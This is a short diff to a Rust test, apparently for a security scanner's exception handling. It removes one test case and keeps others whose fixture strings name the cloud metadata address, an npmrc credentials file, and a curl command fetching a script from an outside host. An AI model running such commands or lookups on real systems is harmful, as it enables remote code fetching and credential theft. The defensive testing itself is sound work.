@@ -35,7 +35,6 @@ fn exception(finding: &str, folder: &Path) -> String {
 #[test]
 fn an_exception_allows_what_was_found_and_nothing_else() {
     for (finding, allowed, line) in [
-        ("F1", 1, "    addresses: [\"169.254.169.254\"]\n    ports: [\"80\"]"),
         ("F2", 1, "    commands: [\"curl -sf -o undefined/ld.py http://203.0.113.7:8000/ld.py\"]"),
         ("F3", 2, "object: npmrc }"),
     ] {
